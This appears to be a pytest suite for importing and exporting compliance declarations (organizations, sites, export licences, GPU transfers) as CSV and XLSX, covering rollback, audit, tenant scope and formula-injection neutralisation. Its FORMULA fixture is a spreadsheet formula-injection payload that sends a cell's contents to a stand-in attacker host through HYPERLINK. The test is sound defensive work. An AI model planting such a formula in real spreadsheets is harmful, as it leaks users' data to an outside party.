"""Bulk declarations (organizations, sites, clusters, licences, transfers) from CSV and XLSX: dry run,
all or nothing with row/column errors, idempotent re-import, audit, re-score on commit, export round trip,
tenant scope, formula-looking text."""
import csv
import io
from datetime import date

import pytest
from django.core.management import CommandError, call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import Workbook, load_workbook

from compliance.access.scope import Capability, Scope, user_scope
from compliance.audit.models import AuditEvent
from compliance.models import ClusterScore
from inventory.declaration_sheets import SHEETS, SheetFormatError, sheet_rows_read, sheets_write
from inventory.declarations_export import declarations_export_sheets
from inventory.models import Cluster, License, Organization, Site, Transfer
from inventory.services.declarations_import import declarations_import
from tests.api.fleet import _fast_password_hashing, family_a, family_b, users  # noqa: F401  (fixtures)

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
# One workbook's worth of declarations, in SHEETS' column order; the parent comes after its subsidiary on purpose.
SAMPLE = {
    "organizations": [
        ["Gamma Compute MY", "cloud provider", "Gamma Holdings", "MY", "MY", FORMULA],
        ["Gamma Holdings", "operator", "", "US", "US", ""],
    ],
    "sites": [["Gamma Compute MY", "KUL-1", "MY", "Kuala Lumpur", 3.139, 101.6869],
              ["Gamma Holdings", "KUL-1", "MY", "", None, None]],
    "clusters": [["Gamma Compute MY / KUL-1", "kul-train", "Gamma Compute MY", "training"]],
    "licences": [["D-1001", "Gamma Compute MY", "MY", "3a090.a; 4A090.a", 512, "2025-01-01", "",
                  "Gamma Compute MY / KUL-1"]],
    "transfers": [["GPU-aaaa-1", "", "Gamma Compute MY / KUL-1", "2025-02-03", "D-1001"]],
}
DECLARED = (Organization, Site, Cluster, License, Transfer)


def counts():
    return {model.__name__: model.objects.count() for model in (*DECLARED, AuditEvent)}


def sample(fmt, replace=None):
    sheets = {name: [list(row) for row in rows] for name, rows in SAMPLE.items()}
    for (sheet, row, column), value in (replace or {}).items():
        sheets[sheet][row][SHEETS[sheet].index(column)] = value
    return sheets_write(sheets=sheets, fmt=fmt)


def run(data, fmt, **kwargs):
    return declarations_import(data=data, fmt=fmt, source_name=f"decl.{fmt}", **kwargs)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_file_creates_every_kind_of_row_audited(fmt, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        report = run(sample(fmt), fmt)
    assert report.committed and not report.errors
    assert report.counts() == {sheet: {"create": len(rows), "update": 0, "unchanged": 0}
                               for sheet, rows in SAMPLE.items()}
    child = Organization.objects.get(name="Gamma Compute MY")
    assert child.parent.name == "Gamma Holdings" and child.kind == "cloud_provider"
    assert child.aliases == [FORMULA]  # the formula is text, stored as typed
    licence = License.objects.get(number="D-1001")
    assert licence.eccns == ["3A090.a", "4A090.a"] and licence.quantity == 512 and licence.valid_until is None
    assert [s.name for s in licence.sites.all()] == ["KUL-1"] and licence.sites.get().organization == child
    transfer = Transfer.objects.get()
    assert transfer.effective_date == date(2025, 2, 3) and transfer.from_site is None
    audited = set(AuditEvent.objects.filter(action="create").values_list("model", flat=True))
    assert {f"inventory.{m.__name__.lower()}" for m in DECLARED} <= audited
    cluster = Cluster.objects.get(name="kul-train")
    assert report.rescored_cluster_ids == [cluster.pk]
    assert ClusterScore.objects.filter(cluster=cluster).exists()  # the licence re-scored it on commit


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_dry_run_previews_and_changes_nothing(fmt, django_capture_on_commit_callbacks):
    before = counts()
    with django_capture_on_commit_callbacks(execute=True) as callbacks:
        report = run(sample(fmt), fmt, dry_run=True)
    assert counts() == before and not callbacks and not report.committed
    assert [(o.sheet, o.action) for o in report.outcomes][:2] == [("organizations", "create")] * 2
    licence_row = next(o for o in report.outcomes if o.sheet == "licences")
    assert licence_row.changes["eccns"] == [None, ["3A090.a", "4A090.a"]]


@pytest.mark.parametrize("replace, where", [
    ({("organizations", 0, "parent"): "Nobody Holdings"}, ("organizations", 2, "parent", "unknown organization")),
    ({("sites", 0, "country"): "XX"}, ("sites", 2, "country", "not an ISO 3166-1 alpha-2")),
    ({("licences", 0, "eccns"): "3A090.a; 3A090.x"}, ("licences", 2, "eccns", "'3A090.x' is not an ECCN")),
    ({("licences", 0, "eccns"): "3A090.a.1"}, ("licences", 2, "eccns", "'3A090.a.1' is not an ECCN")),
    ({("licences", 0, "valid_from"): "01/02/2025"}, ("licences", 2, "valid_from", "not a date (YYYY-MM-DD)")),
    ({("licences", 0, "valid_until"): "2024-01-01"}, ("licences", 2, "valid_until", "cannot end before it starts")),
    ({("sites", 1, "name"): "x" * 201}, ("sites", 3, "name", "at most 200 characters")),
    ({("clusters", 0, "site"): "Atlantis"}, ("clusters", 2, "site", "unknown site 'Atlantis'")),
    ({("clusters", 0, "site"): "KUL-1"}, ("clusters", 2, "site", "used by several organizations")),
    ({("sites", 0, "latitude"): "north"}, ("sites", 2, "latitude", "not a number")),
])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_bad_row_rolls_back_the_whole_file_naming_row_and_column(fmt, replace, where):
    before = counts()
    report = run(sample(fmt, replace), fmt)
    assert counts() == before and not report.committed
    sheet, row, column, message = where
    if fmt == "csv":  # one file: the header, then the sheets' rows in order
        order = list(SHEETS)
        row = 1 + sum(len(SAMPLE[s]) for s in order[:order.index(sheet)]) + row - 1
    error = report.errors[0]  # rows naming the bad one fail after it ("unknown organization")
    assert (error.sheet, error.row, error.column) == (sheet, row, column) and message in error.message


def test_a_licence_number_twice_in_one_file_is_refused():
    sheets = {name: [list(r) for r in rows] for name, rows in SAMPLE.items()}
    sheets["licences"].append(list(sheets["licences"][0]))
    report = run(sheets_write(sheets=sheets, fmt="xlsx"), "xlsx")
    assert [(e.sheet, e.row, e.column) for e in report.errors] == [("licences", 3, "number")]
    assert "duplicate of row 2" in report.errors[0].message and License.objects.count() == 0


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_importing_the_same_file_twice_creates_nothing_new(fmt):
    data = sample(fmt)
    run(data, fmt)
    before = counts()
    report = run(data, fmt)
    assert counts() == before  # no rows, no audit events
    assert {o.action for o in report.outcomes} == {"unchanged"} and report.rescored_cluster_ids == []


def test_a_changed_row_is_an_audited_update_of_that_row_only():
    run(sample("csv"), "csv")
    events = AuditEvent.objects.count()
    report = run(sample("csv", {("licences", 0, "quantity"): 256, ("sites", 1, "city"): "Cyberjaya"}), "csv")
    assert [(o.sheet, o.action, o.changes) for o in report.outcomes if o.action != "unchanged"] == [
        ("sites", "update", {"city": ["", "Cyberjaya"]}),
        ("licences", "update", {"quantity": [512, 256]}),
    ]
    updates = AuditEvent.objects.filter(seq__gt=events)
    assert sorted(updates.values_list("model", "action")) == [("inventory.license", "update"),
                                                              ("inventory.site", "update")]
    assert License.objects.get().quantity == 256


def _wipe():
    for model in (Transfer, License, Cluster, Site):
        for row in model.objects.all():
            row.delete()
    while Organization.objects.exists():
        for org in Organization.objects.filter(subsidiaries__isnull=True):
            org.delete()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_then_import_into_an_empty_database_reproduces_the_rows(fmt, cluster):
    run(sample(fmt), fmt)
    Transfer.objects.create(gpu_uuid="GPU-sg-2", from_site=Site.objects.get(name="SG-1"),
                            to_site=Site.objects.get(name="KUL-1", organization__name="Gamma Holdings"),
                            effective_date=date(2024, 5, 6))
    exported = declarations_export_sheets()
    data = sheets_write(sheets=exported, fmt=fmt)
    _wipe()
    assert not any(model.objects.exists() for model in DECLARED)
    report = run(data, fmt)
    assert report.committed, report.errors
    assert declarations_export_sheets() == exported
    assert Organization.objects.get(name="Gamma Compute MY").aliases == [FORMULA]


def test_formula_looking_text_is_exported_neutralised_in_both_formats():
    run(sample("xlsx"), "xlsx")
    exported = declarations_export_sheets()
    csv_rows = list(csv.DictReader(io.StringIO(sheets_write(sheets=exported, fmt="csv").decode("utf-8-sig"))))
    assert [r["aliases"] for r in csv_rows if r["aliases"]] == [f"'{FORMULA}"]
    book = load_workbook(io.BytesIO(sheets_write(sheets=exported, fmt="xlsx")))
    aliases = [c for c in book["organizations"]["F"] if c.value and "HYPERLINK" in c.value][0]
    assert aliases.data_type == "s" and aliases.value == f"'{FORMULA}"


def test_a_formula_cell_typed_in_excel_is_imported_as_its_text():
    book = Workbook()
    sheet = book.active
    sheet.title = "organizations"
    sheet.append(["name", "headquarters_country", "parent"])
    sheet.append(["Delta Holdings", "US", ""])
    sheet.append(["Delta Labs", "US", "Delta Holdings"])
    sheet["A3"] = FORMULA  # openpyxl stores a leading '=' as a formula cell, as Excel does
    out = io.BytesIO()
    book.save(out)
    assert sheet["A3"].data_type == "f"
    assert run(out.getvalue(), "xlsx").committed
    assert Organization.objects.filter(name=FORMULA, parent__name="Delta Holdings").exists()


def test_files_that_are_not_declarations_are_refused_whole():
    with pytest.raises(SheetFormatError, match="unknown sheet 'Budget'"):
        book = Workbook()
        book.active.title = "Budget"
        out = io.BytesIO()
        book.save(out)
        run(out.getvalue(), "xlsx")
    with pytest.raises(SheetFormatError, match="needs a 'sheet' column"):
        run(b"name,kind\nx,operator\n", "csv")
    with pytest.raises(SheetFormatError, match="missing column 'headquarters_country'"):
        run(b"sheet,name\norganizations,x\n", "csv")
    with pytest.raises(SheetFormatError, match="not a readable XLSX"):
        run(b"not a zip", "xlsx")


# --- tenant scope --------------------------------------------------------------------------------------------


def test_an_officer_imports_only_within_their_family(users, family_a, family_b):
    scope = user_scope(users["officer_a"], Capability.TRIAGE)
    assert not scope.everything and family_a.child.pk in scope.organization_ids
    own = {"sites": [[family_a.child.name, "A-DC9", "SG", "", None, None]]}
    foreign = {"sites": [[family_a.child.name, "A-DC9", "SG", "", None, None],
                         [family_b.child.name, "B-DC9", "CN", "", None, None]],
               "licences": [["L-B", family_b.child.name, "CN", "3A090.a", None, "2025-01-01", "", ""]]}
    before = counts()
    report = run(sheets_write(sheets=foreign, fmt="csv"), "csv", scope=scope)
    assert [(e.row, e.column, e.message) for e in report.errors] == [
        (3, "organization", f"unknown organization {family_b.child.name!r}"),
        (4, "holder", f"unknown organization {family_b.child.name!r}")]
    assert counts() == before
    new_family = {"organizations": [["Epsilon Holdings", "operator", "", "US", "US", ""]]}
    refused = run(sheets_write(sheets=new_family, fmt="csv"), "csv", scope=scope)
    assert refused.errors[0].column == "parent" and "family of its own" in refused.errors[0].message
    takeover = {"organizations": [[family_b.child.name, "operator", family_a.root.name, "CN", "CN", ""]]}
    assert "outside your scope" in run(sheets_write(sheets=takeover, fmt="csv"), "csv", scope=scope).errors[0].message
    assert run(sheets_write(sheets=own, fmt="csv"), "csv", scope=scope).committed
    assert Site.objects.filter(name="A-DC9", organization=family_a.child).exists()
    assert Organization.objects.get(pk=family_b.child.pk).parent_id == family_b.root.pk


def test_an_officer_may_add_a_subsidiary_and_its_sites_in_one_file(users, family_a):
    scope = user_scope(users["officer_a"], Capability.TRIAGE)
    sheets = {"organizations": [["Alpha Labs", "end user", family_a.root.name, "SG", "SG", ""]],
              "sites": [["Alpha Labs", "LAB-1", "SG", "", None, None]]}
    assert run(sheets_write(sheets=sheets, fmt="xlsx"), "xlsx", scope=scope).committed
    assert Site.objects.filter(organization__name="Alpha Labs", organization__parent=family_a.root).exists()


def test_the_export_is_scoped_and_takes_a_fixed_number_of_queries(family_a, family_b):
    scope = Scope(organization_ids=frozenset({family_a.root.pk, family_a.child.pk}))
    names = [row[0] for row in declarations_export_sheets(scope=scope)["organizations"]]
    assert names == [family_a.root.name, family_a.child.name]
    run(sample("csv"), "csv")
    with CaptureQueriesContext(connection) as small:
        declarations_export_sheets()
    sheets = {"organizations": [[f"Zeta {i}", "operator", "Gamma Holdings", "US", "US", ""] for i in range(15)],
              "sites": [[f"Zeta {i}", "Z-1", "US", "", None, None] for i in range(15)],
              "licences": [[f"Z-{i}", f"Zeta {i}", "US", "3A090.a", None, "2025-01-01", "", f"Zeta {i} / Z-1"]
                           for i in range(15)]}
    assert run(sheets_write(sheets=sheets, fmt="csv"), "csv").committed
    with CaptureQueriesContext(connection) as large:
        declarations_export_sheets()
    assert len(large) == len(small)


# --- the command -------------------------------------------------------------------------------------------


def test_the_command_imports_dry_runs_exports_and_fails_naming_rows(tmp_path, capsys):
    path = tmp_path / "decl.xlsx"
    path.write_bytes(sample("xlsx"))
    call_command("declarations", "import", str(path), "--dry-run")
    assert "would import (dry run, nothing written)" in capsys.readouterr().out and not Organization.objects.exists()
    call_command("declarations", "import", str(path))
    assert "licences: 1 new" in capsys.readouterr().out and License.objects.count() == 1
    out = tmp_path / "export.csv"
    call_command("declarations", "export", str(out))
    assert "D-1001" in out.read_text(encoding="utf-8-sig")
    blank = tmp_path / "blank.xlsx"
    call_command("declarations", "template", str(blank))
    assert load_workbook(blank).sheetnames == [*SHEETS, "README"]
    assert sheet_rows_read(data=blank.read_bytes(), fmt="xlsx", source_name="blank") == []
    bad = tmp_path / "bad.data"
    bad.write_bytes(sample("csv", {("licences", 0, "eccns"): "9Z999.q"}))
    with pytest.raises(CommandError, match="1 bad row"):
        call_command("declarations", "import", str(bad), "--format", "csv")
    assert "sheet 'licences', row 7, column 'eccns': '9Z999.q' is not an ECCN" in capsys.readouterr().err
    with pytest.raises(CommandError, match="say --format csv or xlsx"):
        call_command("declarations", "import", str(bad))


def test_a_sheet_that_leaves_out_a_column_keeps_the_stored_values():
    run(sample("xlsx"), "xlsx")
    book = Workbook()
    orgs = book.active
    orgs.title = "organizations"
    orgs.append(["name", "headquarters_country"])
    orgs.append(["Gamma Compute MY", "SG"])
    licences = book.create_sheet("licences")
    licences.append(["number", "holder", "destination_country", "eccns", "valid_from"])
    licences.append(["D-1001", "Gamma Compute MY", "MY", "3A090.a; 4A090.a", date(2025, 1, 1)])
    out = io.BytesIO()
    book.save(out)
    report = run(out.getvalue(), "xlsx")
    assert [(o.sheet, o.action, o.changes) for o in report.outcomes] == [
        ("organizations", "update", {"headquarters_country": ["MY", "SG"]}), ("licences", "unchanged", {})]
    child = Organization.objects.get(name="Gamma Compute MY")
    assert (child.kind, child.parent.name, child.aliases) == ("cloud_provider", "Gamma Holdings", [FORMULA])
    assert License.objects.get().quantity == 512 and License.objects.get().sites.count() == 1
